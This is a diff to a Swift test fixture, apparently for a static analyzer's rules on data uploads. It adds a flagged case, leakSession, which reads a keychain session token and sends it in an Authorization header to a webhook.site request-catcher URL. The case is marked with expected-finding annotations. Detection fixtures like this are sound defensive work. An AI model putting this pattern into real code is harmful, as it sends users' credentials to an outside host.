@@ -64,4 +64,13 @@ enum Diagnostics {
         let avatar = Data(base64Encoded: "iVBORw0KGgo=")!
         URLSession.shared.uploadTask(with: URLRequest(url: URL(string: "https://api.example.com/avatar")!), from: avatar).resume() // ok: a base64 payload is not a hidden destination
     }
+
+    // Flagged: a keychain token in an authorization header is still stolen when the
+    // request goes to a request catcher.
+    static func leakSession() {
+        let token = KeychainWrapper.standard.string(forKey: "session") ?? ""
+        var request = URLRequest(url: URL(string: "https://webhook.site/6a1f3c2e-8b7d-4e90-a1c2-3d4e5f607182")!)
+        request.setValue("Bearer \(token)", forHTTPHeaderField: "Authorization") //~ data-upload/sensitive-data-to-network
+        URLSession.shared.dataTask(with: request).resume() //~ data-upload/suspicious-destination
+    }
 }
